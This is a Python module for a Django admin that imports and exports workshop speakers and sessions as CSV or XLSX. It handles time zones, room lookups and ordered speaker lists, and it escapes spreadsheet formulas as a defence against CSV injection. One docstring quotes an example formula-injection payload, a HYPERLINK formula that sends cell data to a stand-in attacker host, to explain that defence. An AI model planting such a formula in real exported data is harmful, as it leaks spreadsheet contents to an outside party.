"""Spreadsheet rows (CSV, XLSX) for the admin's import and export, through django-import-export.

Imports run every row through the model rules (full_clean) and are all or nothing: one bad row and the
admin rolls the whole file back. Ordered people travel as one cell, "First Person; Second Person".

Times travel as ISO 8601 in the row's workshop's zone, with its offset ("2021-07-24T09:00:00-07:00" for 09:00 in
Los Angeles): the offset names the zone's time, and a round trip is exact. A time typed with no offset
("2021-07-24 09:00") is read in the row's workshop's zone; one with an offset keeps it.
"""

import re
from datetime import datetime

from diff_match_patch import diff_match_patch
from django.db import models
from django.template.loader import render_to_string
from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.text import slugify
from import_export import fields, resources, widgets

from .models import Room, Session, SessionSpeaker, Speaker, Workshop
from .ordered_lists import set_people

LIST_SEPARATOR = ";"
# A cell a spreadsheet would read as a formula (OWASP "CSV injection"); apostrophes first, so that escaping by
# one more leading apostrophe can be undone exactly on import. Line feed too: a CSV import reads a carriage
# return as one, and the apostrophe before it must still come off.
FORMULA_START = re.compile(r"'*[=+\-@\t\r\n]")


def escape_formula(value):
    """Text a spreadsheet shows as written: a leading apostrophe makes a would-be formula plain text.

    django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT is not enough: it deletes a leading "=", so
    the text changes ("=1+1" comes out as "1+1"), and leaves "+", "-", "@", tab and carriage return alone,
    which spreadsheets also start formulas with.
    """
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def unescape_formula(value):
    """The text escape_formula was given, so an exported file imports back unchanged."""
    if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value, 1):
        return value[1:]
    return value


def split_list(cell):
    return [part.strip() for part in str(cell or "").split(LIST_SEPARATOR) if part.strip()]


def join_list(values):
    return f"{LIST_SEPARATOR} ".join(values)


def person_named(name):
    """The person with this name, by the slug it would have; a new one when there is none."""
    slug = slugify(name)
    return Speaker.objects.filter(slug=slug).first() or Speaker.objects.create(name=name, slug=slug)


def replace_people(owner, through, owner_field, names):
    """Make owner's ordered list exactly the people named, in that order."""
    set_people(owner, through, owner_field, [person_named(name) for name in names])


class InstantWidget(widgets.Widget):
    """A date and time read with its own offset or, having none, in the zone of the row's workshop."""

    def clean(self, value, row=None, **kwargs):
        if value in (None, ""):
            return None
        if isinstance(value, datetime):  # an XLSX date cell: no zone, like a time typed without an offset
            parsed = value
        else:
            try:
                parsed = datetime.fromisoformat(str(value).strip())
            except ValueError:
                raise ValueError(f"“{value}” is not a date and time like 2021-07-24 09:00 or 2021-07-24T09:00-07:00")
        if parsed.tzinfo is None:
            workshop = Workshop.objects.filter(slug=(row or {}).get("workshop")).first()
            if workshop is None:
                raise ValueError(f"“{value}” has no UTC offset, and the row names no workshop whose zone it is in")
            parsed = timezone.make_aware(parsed, workshop.tzinfo)
        return parsed


class WorkshopTimesResource:
    """Exports starts_at and ends_at in the row's workshop's zone, with the offset (the resource's queryset
    selects the workshop)."""

    def dehydrate_starts_at(self, obj):
        return in_workshop_zone(obj.starts_at, obj.workshop)

    def dehydrate_ends_at(self, obj):
        return in_workshop_zone(obj.ends_at, obj.workshop)


def in_workshop_zone(value, workshop):
    return timezone.localtime(value, workshop.tzinfo).isoformat() if value else ""


class WorkshopRoomWidget(widgets.ForeignKeyWidget):
    """A room by its slug within the row's workshop (room slugs repeat across workshops)."""

    def __init__(self):
        super().__init__(Room, field="slug")

    def get_lookup_kwargs(self, value, row=None, **kwargs):
        return {"slug": value, "workshop__slug": (row or {}).get("workshop")}


class MarkedDiff(resources.Diff):
    """The import preview's changes marked up by a template (<ins>, <del>, styled in static/css/admin.css),
    instead of diff-match-patch's HTML, whose inline styles the Content-Security-Policy refuses."""

    def as_html(self):
        matcher = diff_match_patch()
        cells = []
        for old, new in zip(self.left, self.right):
            # As django-import-export does: a new row shows its values whole, not as a change from nothing.
            if old != new and self.new:
                old = ""
            parts = matcher.diff_main(force_str(old), force_str(new))
            matcher.diff_cleanupSemantic(parts)
            cells.append(render_to_string("admin/import_export/_diff.html", {"parts": parts}))
        return cells


class ProgrammeResource(resources.ModelResource):
    """Long text columns read like short ones: an empty cell is an empty text. django-import-export gives a
    TextField its generic widget, which turns the empty cell an XLSX file has into None, and a NOT NULL error.

    Every cell is written with escape_formula, whatever the format: titles and names come from speakers, and a
    title like =HYPERLINK("http://evil.example/?x="&A1) would run in the organizer's spreadsheet."""

    @classmethod
    def get_diff_class(cls):
        return MarkedDiff

    @classmethod
    def widget_from_django_field(cls, f, default=widgets.Widget):
        if isinstance(f, models.TextField):
            return widgets.CharWidget
        return super().widget_from_django_field(f, default)

    def export_field(self, field, instance, **kwargs):
        return escape_formula(super().export_field(field, instance, **kwargs))

    def before_import_row(self, row, **kwargs):
        for column, value in row.items():
            row[column] = unescape_formula(value)

    def before_import(self, dataset, **kwargs):
        """A sheet holds this resource's columns and no others. A column it does not know (an id, a password, a
        user's flags) refuses the whole file, naming it, rather than being passed over in silence; no row is read.
        What a row can write is fixed by the resource: its model's row, and the people, spots and ordered lists
        that after_save_instance makes."""
        known = {field.column_name for field in self.get_import_fields()}
        unknown = [str(name) for name in dataset.headers or () if name not in (None, "") and name not in known]
        if unknown:
            del dataset[0 : len(dataset)]
            raise ValueError(
                f"Refused: unknown column(s) {', '.join(unknown)}. "
                f"A {self.Meta.model._meta.verbose_name} sheet has only these: {', '.join(sorted(known))}."
            )
        super().before_import(dataset, **kwargs)


class SpeakerResource(ProgrammeResource):
    class Meta:
        model = Speaker
        fields = ("slug", "name", "affiliation", "homepage")
        import_id_fields = ("slug",)
        clean_model_instances = True
        skip_unchanged = True
        report_skipped = True


class SessionResource(WorkshopTimesResource, ProgrammeResource):
    workshop = fields.Field("workshop", "workshop", widgets.ForeignKeyWidget(Workshop, field="slug"))
    room = fields.Field("room", "room", WorkshopRoomWidget())
    starts_at = fields.Field("starts_at", "starts_at", InstantWidget())
    ends_at = fields.Field("ends_at", "ends_at", InstantWidget())
    speakers = fields.Field(column_name="speakers")

    class Meta:
        model = Session
        fields = (
            "workshop", "slug", "title", "kind", "starts_at", "ends_at", "room",
            "speakers", "abstract", "video_url", "video_provider",
        )
        export_order = fields
        import_id_fields = ("workshop", "slug")
        clean_model_instances = True
        skip_unchanged = False

    def get_queryset(self):
        return super().get_queryset().select_related("workshop", "room").prefetch_related("session_speakers__speaker")

    def dehydrate_speakers(self, session):
        return join_list(entry.speaker.name for entry in session.session_speakers.all())

    def after_save_instance(self, instance, row, **kwargs):
        replace_people(instance, SessionSpeaker, "session", split_list(row.get("speakers")))
